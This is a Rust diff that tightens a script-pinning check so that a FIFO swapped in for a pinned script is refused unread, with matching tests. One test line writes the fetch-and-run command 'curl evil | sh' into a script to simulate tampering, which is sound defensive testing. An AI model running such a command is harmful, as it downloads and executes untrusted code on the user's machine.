@@ -125,8 +125,10 @@ fn trusted_content(
         Program::Wasm { path } => trust.expected(path),
         Program::Native { .. } => {
             for path in crate::store::trust::named_paths(manifest) {
-                // An argument that names no file is data, not a script.
-                if path.is_file() {
+                // An argument that names nothing (or a folder) is data, not
+                // a script; a FIFO swapped in for a file is checked (and
+                // refused unread).
+                if std::fs::metadata(&path).is_ok_and(|m| !m.is_dir()) {
                     trust.check_file(&path)?;
                 }
             }
@@ -234,6 +236,15 @@ mod tests {
         );
         // The script edited since: refused before it runs.
         write(&native.join("run.sh"), b"curl evil | sh\n");
+        let refused = trusted_content(&native_manifest, &trust);
+        assert!(
+            matches!(&refused, Err(PinError::Changed { path, .. }) if *path == native.join("run.sh")),
+            "{refused:?}"
+        );
+        // A FIFO swapped in for the script: checked, and refused unread.
+        std::fs::remove_file(native.join("run.sh")).unwrap_or_else(|e| panic!("{e}"));
+        nix::unistd::mkfifo(&native.join("run.sh"), nix::sys::stat::Mode::S_IRWXU)
+            .unwrap_or_else(|e| panic!("{e}"));
         let refused = trusted_content(&native_manifest, &trust);
         assert!(
             matches!(&refused, Err(PinError::Changed { path, .. }) if *path == native.join("run.sh")),
